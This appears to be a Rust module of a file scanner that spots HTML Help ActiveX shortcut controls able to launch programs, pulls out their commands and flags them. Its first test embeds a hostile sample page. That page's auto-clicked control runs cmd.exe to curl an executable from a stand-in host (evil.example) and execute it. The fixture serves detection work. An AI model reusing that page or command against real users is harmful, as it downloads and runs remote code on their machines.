//! The control of HTML Help, whose shortcuts start programs: the way in which a help file runs commands.

use crate::script::markup::attribute;
use crate::specimen::Specimen;

/// The control's class ids, of its two versions.
const CLASSES: [&str; 2] = ["adb880a6-d8ff-11cf-9377-00aa003b7a11", "52a2aaae-085d-4187-97ea-8c30db990436"];

/// Controls of one page that are looked at.
const CONTROLS: usize = 40;

/// Bytes of one control with its parameters.
const CONTROL_BYTES: usize = 8 << 10;

/// Keeps the commands of a page's shortcuts, and tells them.
pub(super) fn look(specimen: &mut Specimen<'_, '_>, text: &str) {
    let lower = text.to_ascii_lowercase();
    let controls = CLASSES.iter().flat_map(|class| lower.match_indices(class)).take(CONTROLS);
    for (at, _) in controls {
        let rest = lexicon::text::cut(text.get(at..).unwrap_or(""), CONTROL_BYTES);
        let end =
            lower.get(at..at + rest.len()).and_then(|lower| lower.find("</object")).unwrap_or(rest.len());
        let Some(command) = command(rest.get(..end).unwrap_or(rest)) else { continue };
        specimen.script("command", "", &command);
        specimen.tell("help-runs-command", &command);
    }
}

/// The command of a control that is a shortcut: its first item is the window's class, the program and its arguments,
/// with commas between.
fn command(control: &str) -> Option<String> {
    let parameters = control.split('<').filter_map(|tag| {
        let is_parameter = tag.get(..5).is_some_and(|name| name.eq_ignore_ascii_case("param"));
        is_parameter.then(|| Some((attribute(tag, "name")?, attribute(tag, "value")?))).flatten()
    });
    let find = |name: &str| {
        let found = parameters.clone().find(|(known, _)| known.eq_ignore_ascii_case(name))?;
        Some(crate::plain::unescape(found.1))
    };
    let kind = find("command")?;
    if !kind.get(..8).is_some_and(|kind| kind.eq_ignore_ascii_case("shortcut")) {
        return None;
    }
    let item = find("item1")?;
    let mut parts = item.splitn(3, ',').skip(1).map(str::trim);
    let program = parts.next().filter(|program| !program.is_empty())?;
    Some(format!("{program} {}", parts.next().unwrap_or("")).trim().to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{ids, open};

    #[test]
    fn a_shortcut_that_a_page_clicks_by_itself_is_told_with_its_command() {
        let page = b"<html><OBJECT id=x classid=\"clsid:ADB880A6-D8FF-11CF-9377-00AA003B7A11\">\
            <PARAM name=\"Command\" value=\"ShortCut\"><PARAM name=\"Item1\" \
            value=',cmd.exe,/c curl -o %TEMP%\\a.exe http://evil.example/a &amp; %TEMP%\\a.exe'>\
            <PARAM name=\"Item2\" value=\"273,1,1\"></OBJECT><SCRIPT>x.Click();</SCRIPT></html>";
        let opened = open("a.html", "html", page);
        assert!(ids(&opened).contains(&"help-runs-command"), "{:?}", opened.tells);
        assert!(opened.tells.iter().any(|t| t.why.contains("cmd.exe /c curl")));
        assert!(opened.sources.iter().any(|s| s.text.contains("http://evil.example/a &")));
    }

    #[test]
    fn a_list_of_related_topics_is_no_command() {
        let control = "classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\"><param name=\"Command\" \
            value=\"Related Topics, MENU\"><param name=\"Item1\" value=\"A page;a.htm\">";
        assert_eq!(command(control), None);
        assert_eq!(command("><param name=Command value=ShortCut><param name=Item1 value=\",,\">"), None);
    }
}
